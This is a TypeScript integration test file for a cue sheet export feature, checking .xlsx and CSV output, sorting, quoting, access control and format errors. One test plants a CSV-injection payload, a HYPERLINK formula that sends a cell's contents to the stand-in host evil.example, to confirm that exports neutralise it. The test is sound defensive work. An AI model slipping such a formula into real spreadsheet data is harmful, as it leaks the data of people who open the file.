import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ProjectApi } from '../../src/domain/api/projects';
import { tracks } from '../../server/db/schema/catalog';
import { trackEntries } from '../../server/db/schema/projects';
import { databaseTargets, startTestApp, type TestApp } from './support/harness';
import { createTestUser, testEnv, type TestUser } from './sync-fixtures';
import { createTrack } from './library-fixtures';

type Method = 'GET' | 'POST' | 'PATCH' | 'DELETE';

const headings = [
  'Cue #',
  'Title',
  'Composers / authors',
  'Publisher / owner',
  'Performer',
  'ISRC',
  'Usage type',
  'Time in',
  'Time out',
  'Duration',
];

/** RFC 4180 as the test reads it: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    const next = text[i + 1];
    if (quoted && c === '"' && next === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') quoted = !quoted;
    else if (quoted || (c !== ',' && c !== '\r')) field += c;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (next === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return rows;
}

/** docs/licensing.md §2 "Cue sheet": per episode, .xlsx and .csv, rows by time in. */
describe.each(databaseTargets)('the cue sheet on %s', (target) => {
  let t: TestApp;
  let creator: TestUser;
  let viewer: TestUser;
  let outsider: TestUser;
  let workspaceId: string;
  let projectId: string;
  let owner: TestUser;

  const call = (user: TestUser, method: Method, url: string, payload?: object) =>
    t.app.inject({ method, url: `/api${url}`, headers: user.headers(), ...(payload ? { payload } : {}) });

  beforeAll(async () => {
    t = await startTestApp(target, testEnv);
    [creator, viewer, outsider] = [
      await createTestUser(t.database),
      await createTestUser(t.database),
      await createTestUser(t.database),
    ];
    owner = await createTestUser(t.database, ['owner']);
    const project = (
      await call(creator, 'POST', '/project/create', { name: 'Северный ветер', type: 'tv_series' })
    ).json() as ProjectApi;
    const withEpisode = (
      await call(creator, 'POST', `/project/create-episode/${project._id}`, {
        number: 2,
        title: 'Пролог',
        duration: '00:50:00',
      })
    ).json() as ProjectApi;
    workspaceId = withEpisode.episodes[0]!.workspaceId!;
    projectId = project._id;
    const email = ((await call(viewer, 'GET', '/user/info')).json() as { email: string }).email;
    await call(creator, 'POST', `/project/add-member/${project._id}`, { email, role: 'viewer' });

    const late = await createTrack(t.database, owner.id, 'Рассвет, "утро"');
    const early = await createTrack(t.database, owner.id, 'Opening');
    const untimed = await createTrack(t.database, owner.id, 'Spare');
    await t.database.db.update(tracks).set({ isrc: 'RUA1D2400001' }).where(eq(tracks.id, early.id));
    const added = await call(creator, 'PATCH', `/project/add-track/${project._id}`, {
      tracksId: [late.id, untimed.id, early.id],
      projectWorkspaceId: workspaceId,
    });
    expect(added.statusCode, added.body).toBe(200);
    const set = (trackId: string, values: Partial<typeof trackEntries.$inferInsert>) =>
      t.database.db.update(trackEntries).set(values).where(eq(trackEntries.trackId, trackId));
    await set(late.id, { timeIn: 600, timeOut: 725, usageType: 'background_vocal' });
    await set(early.id, { timeIn: 5, timeOut: 65, usageType: 'theme' });
  });
  afterAll(() => t?.close());

  const expectedRows = (ownerName: string) => [
    ['1', 'Opening', expect.stringMatching(/^Artist /), ownerName, expect.stringMatching(/^Artist /)],
    ['2', 'Рассвет, "утро"', expect.stringMatching(/^Artist /), ownerName, expect.stringMatching(/^Artist /)],
    ['3', 'Spare', expect.stringMatching(/^Artist /), ownerName, expect.stringMatching(/^Artist /)],
  ];

  it('downloads .xlsx named after the project and episode, rows by time in', async () => {
    const res = await call(viewer, 'GET', `/project/cue-sheet/${workspaceId}?format=xlsx`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toContain(
      `filename*=UTF-8''${encodeURIComponent('Северный ветер - Episode 2 - Пролог - cue sheet.xlsx')}`,
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const rows = [1, 2, 3, 4].map((n) =>
      Array.from({ length: 10 }, (_, i) => String(sheet.getRow(n).getCell(i + 1).value ?? '')),
    );
    expect(rows[0]).toEqual(headings);
    const owner = rows[1]![3]!;
    expect(owner).toMatch(/^Test /);
    expect(rows.slice(1).map((row) => row.slice(0, 5))).toEqual(expectedRows(owner));
    expect(rows[1]!.slice(5)).toEqual(['RUA1D2400001', 'Theme', '00:00:05', '00:01:05', '00:01:00']);
    expect(rows[2]!.slice(5)).toEqual(['', 'Background vocal', '00:10:00', '00:12:05', '00:02:05']);
    expect(rows[3]!.slice(5)).toEqual(['', '', '', '', '']);
  });

  it('downloads RFC 4180 CSV with a UTF-8 byte order mark, the same cells', async () => {
    const res = await call(creator, 'GET', `/project/cue-sheet/${workspaceId}?format=csv`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toContain('cue%20sheet.csv');
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = res.rawPayload.toString('utf8');
    expect(text).toContain('"Рассвет, ""утро"""');
    const rows = parseCsv(text.slice(1));
    expect(rows).toHaveLength(4);
    expect(rows[0]).toEqual(headings);
    expect(rows.slice(1).map((row) => row.slice(0, 5))).toEqual(expectedRows(rows[1]![3]!));
    expect(rows[2]!.slice(5)).toEqual(['', 'Background vocal', '00:10:00', '00:12:05', '00:02:05']);
  });

  it('neutralises titles a spreadsheet would run as formulas, in CSV and .xlsx (OWASP CSV injection)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const episode = (
      await call(creator, 'POST', `/project/create-episode/${projectId}`, { number: 3, duration: '00:50:00' })
    ).json() as ProjectApi;
    const sheetOf = episode.episodes.find((one) => one.number === 3)!.workspaceId!;
    const titled = [
      await createTrack(t.database, owner.id, evil),
      await createTrack(t.database, owner.id, '-5'),
    ];
    const added = await call(creator, 'PATCH', `/project/add-track/${projectId}`, {
      tracksId: titled.map((track) => track.id),
      projectWorkspaceId: sheetOf,
    });
    expect(added.statusCode, added.body).toBe(200);

    const csv = (await call(creator, 'GET', `/project/cue-sheet/${sheetOf}?format=csv`)).rawPayload.toString(
      'utf8',
    );
    // The cue number stays a bare number; the text cells get a quote in front, inside double quotes.
    expect(csv).toContain(`\r\n1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
    expect(csv).toContain(`\r\n2,"'-5",`);
    expect(parseCsv(csv.slice(1)).map((row) => row.slice(0, 2))).toEqual([
      ['Cue #', 'Title'],
      ['1', `'${evil}`],
      ['2', "'-5"],
    ]);

    const res = await call(creator, 'GET', `/project/cue-sheet/${sheetOf}?format=xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cell = workbook.worksheets[0]!.getCell('B2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(evil);
    const sheetXml = await (
      await JSZip.loadAsync(res.rawPayload)
    )
      .file('xl/worksheets/sheet1.xml')!
      .async('string');
    expect(sheetXml).not.toContain('<f>');
  });

  it('refuses an unknown format with the documented wording, and an outsider with 404', async () => {
    const bad = await call(creator, 'GET', `/project/cue-sheet/${workspaceId}?format=pdf`);
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toBe('Choose a value from the list.');
    expect((await call(outsider, 'GET', `/project/cue-sheet/${workspaceId}`)).statusCode).toBe(404);
    expect((await call(creator, 'GET', '/project/cue-sheet/not-an-id')).statusCode).toBe(404);
  });
});
